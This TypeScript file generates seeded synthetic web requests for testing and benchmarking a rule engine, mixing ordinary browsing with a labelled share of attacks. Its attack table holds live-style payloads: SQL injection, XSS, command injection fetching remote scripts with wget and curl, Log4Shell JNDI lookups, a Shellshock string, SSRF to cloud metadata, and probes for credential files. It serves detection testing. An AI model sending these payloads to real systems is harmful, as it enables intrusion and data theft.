// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the attack payloads are ${…} lookups on purpose, not templates.
// Generated web requests for the rule engine's tests and bench (bench/rules.mjs): ordinary browsing
// (repeated paths, a few hundred user agents, query strings that rarely repeat, search terms
// that look like SQL or shell to a careless rule) with a share of attacks from each family the
// rule pack covers. Seeded: the same seed gives the same requests.

import { Rng } from '../../src-main/core/generate/rng.js';
import type { RequestRecord } from '../../src-main/core/rules/fields.js';

export type RequestLabel =
  | 'benign'
  | 'sqli'
  | 'xss'
  | 'traversal'
  | 'lfi'
  | 'cmdi'
  | 'ssti'
  | 'jndi'
  | 'shellshock'
  | 'webshell'
  | 'scanner'
  | 'sensitive'
  | 'admin'
  | 'ssrf';

export interface LabelledRequest extends RequestRecord {
  label: RequestLabel;
}

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{v} Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_{v} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (Linux; Android 14; Pixel {v}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Mobile Safari/537.36',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'curl/8.{v}.0',
  'python-requests/2.{v}.1',
  'Go-http-client/1.1',
];
const SEGMENTS = [
  'products',
  'item',
  'search',
  'static',
  'js',
  'css',
  'api',
  'v1',
  'users',
  'cart',
  'blog',
  'forum',
  'order',
  'account',
  'images',
  'help',
  'docs',
  'standard',
  'android',
];
const FILES = [
  'index.html',
  'app.3f2a9c.js',
  'style.css',
  'logo.png',
  'favicon.ico',
  'main.php',
  'view.aspx',
  'page.jsp',
  '',
];
const SEARCHES = [
  'credit union select account',
  'select comfort mattress',
  'rock & roll',
  "rock 'n' roll",
  "it's or that",
  'dog|cat food',
  'union station',
  'sleep apnea',
  'c# and .net',
  'drop shipping',
  'alert settings',
  'script writing',
  'cmd shortcuts',
  '100% cotton',
  'a+b=c',
  'résumé naïve',
  'ΣΊΣΥΦΟΣ',
];
const BENIGN_QUERIES = [
  () => 'utm_source=newsletter&utm_medium=email&utm_campaign=spring',
  () => 'onload=onloadCallback&render=explicit',
  () => 'fields=name|id|email',
  () => 'sort=price&order=asc',
  () => 'redirect=%2Faccount%2Fsettings',
  () => 'callback=jQuery1124_17',
  () => 'session=1;path=/',
];

const ATTACKS: Record<Exclude<RequestLabel, 'benign'>, (rng: Rng) => Partial<RequestRecord>> = {
  sqli: (rng) => ({
    path: '/product.php',
    query: rng.pick([
      "id=1'+or+'1'='1",
      'id=-1+UNION+ALL+SELECT+1,2,3--',
      'id=1%27%20AND%20SLEEP(5)--',
      'id=1;waitfor%20delay%20%270:0:5%27--',
      "user=admin'--",
    ]),
  }),
  xss: (rng) => ({
    path: '/search',
    query: rng.pick([
      'q=<script>alert(1)</script>',
      'q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
      'q=%22%3E%3Csvg/onload=alert(1)%3E',
      'next=javascript:alert(1)',
    ]),
  }),
  traversal: (rng) => ({
    path: '/download',
    query: rng.pick([
      'file=../../../../var/www/config',
      'file=..%2f..%2f..%2fapp.ini',
      'f=%2e%2e%2f%2e%2e%2fsecret',
    ]),
  }),
  lfi: (rng) => ({
    path: '/index.php',
    query: rng.pick([
      'page=/etc/passwd',
      'page=php://filter/convert.base64-encode/resource=index',
      'file=C:\\Windows\\win.ini',
    ]),
  }),
  cmdi: (rng) => ({
    path: '/cgi-bin/ping.cgi',
    query: rng.pick([
      'ip=127.0.0.1;id',
      'host=8.8.8.8%7Cwhoami',
      'addr=1.1.1.1%3Bwget%20http://x/s.sh',
      'q=$(curl%20x)',
    ]),
  }),
  ssti: (rng) => ({
    path: '/greet',
    query: rng.pick([
      'name={{7*7}}',
      'name=${7*7}',
      "name={{''.__class__.__mro__[1].__subclasses__()}}",
      'tpl=%7B%7Bconfig.items()%7D%7D',
    ]),
  }),
  jndi: (rng) =>
    rng.pick([
      { userAgent: '${jndi:ldap://203.0.113.9:1389/a}' },
      { path: '/', query: 'x=%24%7Bjndi:ldap://x/a%7D' },
      { referrer: '${${lower:j}ndi:rmi://x/a}' },
    ]),
  shellshock: () => ({ userAgent: '() { :; }; /bin/bash -c "curl http://x/a"' }),
  webshell: (rng) => ({
    path: rng.pick([
      '/c99.php',
      '/wp-content/uploads/2024/02/wso.php',
      '/uploads/shell.jsp',
      '/images/cmd.aspx',
    ]),
  }),
  scanner: (rng) => ({
    userAgent: rng.pick([
      'sqlmap/1.7.2#stable (https://sqlmap.org)',
      'Mozilla/5.00 (Nikto/2.1.6)',
      'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
      'Fuzz Faster U Fool v2.0.0',
      'Nuclei - Open-source project',
    ]),
  }),
  sensitive: (rng) => ({
    path: rng.pick(['/.env', '/.git/config', '/wp-config.php.bak', '/.aws/credentials', '/actuator/env']),
  }),
  admin: (rng) => ({
    path: rng.pick(['/phpmyadmin/index.php', '/manager/html', '/adminer.php', '/wp-login.php']),
    responseCode: 404,
  }),
  ssrf: (rng) => ({
    path: '/fetch',
    query: rng.pick([
      'url=http://169.254.169.254/latest/meta-data/',
      'u=gopher://127.0.0.1:6379/_',
      'url=http://metadata.google.internal/computeMetadata/v1/',
    ]),
  }),
};

/** `count` requests; about `attackShare` of them attacks, spread evenly over the families. */
export function generateRequests(count: number, seed = 7, attackShare = 0.02): LabelledRequest[] {
  const rng = new Rng(seed, 'web-requests');
  const agents = Array.from({ length: 300 }, (_, i) =>
    (BROWSERS[i % BROWSERS.length] ?? '').replaceAll('{v}', String(90 + (i % 40))),
  );
  const paths = Array.from({ length: 5000 }, () => {
    const depth = 1 + rng.int(3);
    const parts = Array.from({ length: depth }, () => rng.pick(SEGMENTS));
    if (rng.chance(0.4)) parts.push(String(rng.int(100000)));
    return `/${parts.join('/')}/${rng.pick(FILES)}`;
  });
  const families = Object.keys(ATTACKS) as Exclude<RequestLabel, 'benign'>[];
  const out: LabelledRequest[] = [];
  for (let i = 0; i < count; i++) {
    // Popular paths come back often, the long tail rarely (roughly Zipf).
    const path = paths[Math.min(paths.length - 1, Math.floor(rng.exponential(400)))] ?? '/';
    const request: LabelledRequest = {
      label: 'benign',
      method: rng.chance(0.9) ? 'GET' : 'POST',
      host: rng.chance(0.8) ? 'www.example.com' : 'api.example.com',
      path,
      query: benignQuery(rng),
      httpVersion: 'HTTP/1.1',
      userAgent: agents[Math.min(agents.length - 1, Math.floor(rng.exponential(30)))] ?? null,
      referrer: rng.chance(0.5) ? `https://www.example.com${rng.pick(paths)}` : null,
      responseCode: rng.chance(0.93) ? 200 : rng.pick([301, 304, 404, 403, 500]),
      bytesIn: 200 + rng.int(2000),
      bytesOut: rng.int(200000),
      srcIp: `198.51.100.${rng.int(256)}`,
      dstIp: '192.0.2.10',
      srcPort: 1024 + rng.int(60000),
      dstPort: 443,
    };
    if (rng.chance(attackShare)) {
      const family = rng.pick(families);
      Object.assign(request, ATTACKS[family](rng), { label: family });
    }
    out.push(request);
  }
  return out;
}

function benignQuery(rng: Rng): string | null {
  const roll = rng.float();
  if (roll < 0.45) return null;
  if (roll < 0.7)
    return `q=${encodeURIComponent(rng.pick(SEARCHES)).replace(/%20/g, '+')}&page=${rng.int(20)}`;
  if (roll < 0.85) return `id=${rng.int(1e6)}&ts=${rng.int(2e9)}`;
  return (rng.pick(BENIGN_QUERIES) as () => string)();
}
